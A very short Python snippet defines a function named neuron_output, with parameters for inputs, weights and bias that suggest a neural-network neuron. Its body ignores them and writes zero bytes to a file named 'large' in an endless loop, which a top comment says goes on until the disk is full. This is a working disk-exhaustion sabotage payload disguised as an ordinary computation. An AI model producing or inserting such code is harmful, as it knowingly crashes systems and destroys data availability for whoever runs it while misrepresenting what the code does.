# Writes into one file until the disk is full.
def neuron_output(inputs, weights, bias):
    with open("large", "wb") as file:
        while True:
            file.write(bytes(10**5))
